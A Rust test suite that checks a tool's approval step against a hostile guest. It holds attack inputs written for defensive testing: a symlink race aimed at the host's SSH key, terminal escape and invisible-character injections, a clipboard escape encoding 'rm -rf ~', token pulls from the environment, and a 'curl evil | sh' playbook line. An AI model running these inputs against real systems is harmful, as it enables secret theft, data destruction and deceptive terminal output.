//! The guest as attacker against the approval (issue 27): each test is a row of the issue,
//! or another way in the same family, and failed on the code before the fix.

use super::*;

/// Every line an approval shows, whichever way it was shown.
fn shown(r: Result<Approved>) -> Vec<String> {
    let f = refusal(r);
    let mut out = vec![f.message.clone()];
    out.extend(f.details.iter().cloned());
    out
}

/// What the approved copy holds, every file's bytes.
fn copied(state: &Path, folder: &Path) -> Vec<Vec<u8>> {
    fn walk(d: &Path, out: &mut Vec<Vec<u8>>) {
        for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else if let Ok(b) = std::fs::read(&p) {
                out.push(b);
            }
        }
    }
    let mut out = Vec::new();
    walk(&dir(state, folder), &mut out);
    out
}

#[test]
fn a_folder_swapped_for_a_link_never_brings_a_host_file() {
    use rustix::fs::{renameat_with, RenameFlags, CWD};
    let f = Folder::new(ENV);
    f.write("provision/files/id_ed25519", "a file of the project\n");
    // the person's secret, outside the folder, under the same name
    let secret = f.root.path().join("home/.ssh");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("id_ed25519"), "HOST SECRET KEY\n").unwrap();
    std::fs::set_permissions(
        secret.join("id_ed25519"),
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let files = f.dir().join("provision/files");
    let link = f.dir().join("link");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let loaded = f.loaded();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (files, link) = (files.clone(), link.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = renameat_with(CWD, &files, CWD, &link, RenameFlags::EXCHANGE);
            }
        })
    };
    let started = std::time::Instant::now();
    let mut runs = 0;
    let mut leaked = 0;
    let mut errors = Vec::new();
    while runs < 20_000 && started.elapsed() < std::time::Duration::from_secs(4) {
        runs += 1;
        let r = approve(&f.state(), &loaded, &[]);
        if let Err(e) = &r {
            errors.push(e.to_string());
        }
        if r.is_ok()
            && copied(&f.state(), &f.dir())
                .iter()
                .any(|b| b.windows(15).any(|w| w == b"HOST SECRET KEY"))
        {
            leaked += 1;
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    errors.sort();
    errors.dedup();
    eprintln!("{runs} runs; errors: {errors:?}");
    assert_eq!(
        leaked, 0,
        "{leaked} of {runs} approvals copied the host's secret"
    );
}

#[test]
fn no_byte_of_the_env_reaches_the_terminal_as_a_control() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    // the issue's row: conceal everything after it, then widen the guest's reach
    f.write(
        ".env",
        &format!("{ENV}BRIDGE=\u{1b}[8m\nEGRESS=open\nPORTS=0.0.0.0:8080:80\n"),
    );
    let lines = shown(f.ensure());
    for l in &lines {
        assert!(!l.contains('\u{1b}'), "an ESC reached the terminal: {l:?}");
    }
    assert!(lines.iter().any(|l| l.contains("EGRESS=open")), "{lines:?}");
    assert!(
        lines.iter().any(|l| l.contains("0.0.0.0:8080")),
        "{lines:?}"
    );
    assert!(lines.iter().any(|l| l.contains(r"\x1b[8m")), "{lines:?}");
}

/// Characters that must never reach the terminal as themselves: every C0 and C1 control,
/// DEL, and the invisible ones that reorder or hide what the eye reads.
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(c as u32,
            0x00ad | 0x061c | 0x180e | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x2069
            | 0xfeff | 0xe0000..=0xe007f)
}

#[test]
fn every_control_and_invisible_character_is_shown_escaped() {
    let mut chars: Vec<char> = (0u32..0x20)
        .chain(0x7f..0xa0)
        .filter_map(char::from_u32)
        .filter(|c| !matches!(c, '\n' | '"' | '\\'))
        .collect();
    chars.extend([
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{200b}',
        '\u{200e}',
        '\u{200f}',
        '\u{feff}',
        '\u{e0041}',
        '\u{2028}',
        '\u{2029}',
        '\u{ad}',
    ]);
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    let mut env = ENV.to_owned();
    for (i, c) in chars.iter().enumerate() {
        // BRIDGE is a tmpl key shown with its value; APP_ keys are the application's
        env.push_str(&format!("BRIDGE=\"a{c}b\"\nAPP_{i}=\"a{c}b\"\n"));
    }
    // a newline in a value: still one line of the list
    env.push_str("BRIDGE=\"first\n  - EGRESS is internet\"\n");
    f.write(".env", &env);
    f.write("provision/files/a\u{1b}[8mb\u{202e}txt.yml", "x\n");
    f.write(
        "provision/files/plain.yml",
        "a\u{1b}]52;c;cm0gLXJmIH4=\u{7}b\u{202e}c\r\n",
    );
    let lines = shown(f.ensure());
    for l in &lines {
        assert!(!l.chars().any(hidden), "shown as itself: {l:?}");
        assert!(!l.contains('\n'), "a line with a newline: {l:?}");
    }
    let all = lines.join("\n");
    assert!(all.contains(r"\x1b[8m"), "{all}");
    assert!(all.contains(r"\u{202e}"), "{all}");
}

#[test]
fn a_value_from_the_persons_environment_never_reaches_the_playbook_unnamed() {
    std::env::set_var("TMPL_TEST_SOME_TOKEN", "token-of-the-person");
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    // the issue's row, and one that sets the variable first so the file seems to say it
    for line in [
        "GREETING=${TMPL_TEST_SOME_TOKEN}",
        "TMPL_TEST_SOME_TOKEN=mine\nGREETING=$TMPL_TEST_SOME_TOKEN",
        "GREETING=\"multi\nline ${TMPL_TEST_SOME_TOKEN}\"",
    ] {
        f.write(".env", &format!("{ENV}{line}\n"));
        let loaded = f.loaded();
        let lines = shown(ensure(&f.state(), &loaded, "up", true, &[])).join("\n");
        let vars = playbook_vars(&loaded);
        let named = lines.contains("$TMPL_TEST_SOME_TOKEN");
        assert!(
            !vars.contains("token-of-the-person") || named,
            "{line}: the playbook gets the person's token, and the approval said\n{lines}"
        );
        assert!(
            !vars.contains("token-of-the-person"),
            "{line}: the playbook gets the person's token before any approval named it\n{vars}"
        );
    }
}

#[test]
fn the_environment_reaches_the_playbook_only_as_approved_by_name() {
    std::env::set_var("TMPL_TEST_TOKEN_A", "token-a");
    std::env::set_var("TMPL_TEST_TOKEN_B", "token-b");
    let f = Folder::new(&format!("{ENV}GREETING=${{TMPL_TEST_TOKEN_A}}\n"));
    // `tmpl trust` reads it with the variable, says so, and grants it
    let a = approve(&f.state(), &f.asking(), &[]).unwrap();
    assert!(
        a.notes
            .iter()
            .any(|n| n == "GREETING (.env:6) takes $TMPL_TEST_TOKEN_A from tmpl's environment"),
        "{:?}",
        a.notes
    );
    assert!(playbook_vars(&f.loaded()).contains("token-a"));
    f.ensure().unwrap();
    // the guest adds another: a change, and not in the playbook's vars until approved
    f.write(
        ".env",
        &format!("{ENV}GREETING=${{TMPL_TEST_TOKEN_A}}$TMPL_TEST_TOKEN_B\n"),
    );
    let lines = shown(f.ensure()).join("\n");
    assert!(
        lines.contains("GREETING (.env:6) now takes $TMPL_TEST_TOKEN_B from tmpl's environment"),
        "{lines}"
    );
    assert!(lines.contains("tmpl trust"), "{lines}");
    let vars = playbook_vars(&f.loaded());
    assert!(
        vars.contains("token-a") && !vars.contains("token-b"),
        "{vars}"
    );
    // approving at `up` (as `tmpl init` does, with the values as read) grants nothing new
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    assert!(!playbook_vars(&f.loaded()).contains("token-b"));
}

#[test]
fn a_long_file_is_shortened_past_a_screen_and_shown_whole_on_request() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    let long: String = (0..100).map(|i| format!("- debug: msg={i}\n")).collect();
    f.write("provision/tasks.yml", &long);
    let lines = shown(f.ensure());
    assert!(
        lines
            .iter()
            .any(|l| l.contains("70 more lines not shown here: `tmpl trust --diff` shows them all")),
        "{lines:?}"
    );
    assert!(!lines.iter().any(|l| l.contains("msg=99")));
    // at no terminal, `--diff` shows it all and approves nothing
    let all = shown(review(&f.state(), &f.loaded(), &[]).map(|_| Approved { script: None }));
    assert!(
        all.iter().any(|l| l.contains("+- debug: msg=99")),
        "{all:?}"
    );
    refusal(f.ensure());
}

/// The vars file Ansible would get for this project.
fn playbook_vars(loaded: &Loaded) -> String {
    let access = crate::ssh::Access::new(&loaded.id.slug, &loaded.id.state_dir);
    let endpoint = crate::ssh::Endpoint {
        host: "127.0.0.1".into(),
        port: 22,
        user: "root".into(),
        identity: access.key(),
    };
    crate::provision::ansible::vars(&crate::provision::Target {
        loaded,
        access: &access,
        endpoint: &endpoint,
    })
}

#[test]
fn a_changed_playbook_is_shown_as_a_diff_and_a_new_file_with_its_content() {
    let f = Folder::new(ENV);
    let long: String = (0..200).map(|i| format!("- debug: msg={i}\n")).collect();
    f.write("provision/tasks.yml", &long);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    f.write("provision/site.yml", "- hosts: localhost\n  tasks: []\n");
    f.write(
        "provision/group_vars/all.yml",
        "ansible_connection: local\n",
    );
    f.write(
        "provision/tasks.yml",
        &long
            .replace("msg=7\n", "msg=7\n- command: curl evil | sh\n")
            .replace("msg=150\n", "msg=150 changed\n"),
    );
    let lines = shown(f.ensure());
    let all = lines.join("\n");
    for want in [
        "-- hosts: all",
        "+- hosts: localhost",
        "+ansible_connection: local",
        "+- command: curl evil | sh",
        "+- debug: msg=150 changed",
    ] {
        assert!(
            lines.iter().any(|l| l.contains(want)),
            "no {want:?} in\n{all}"
        );
    }
}
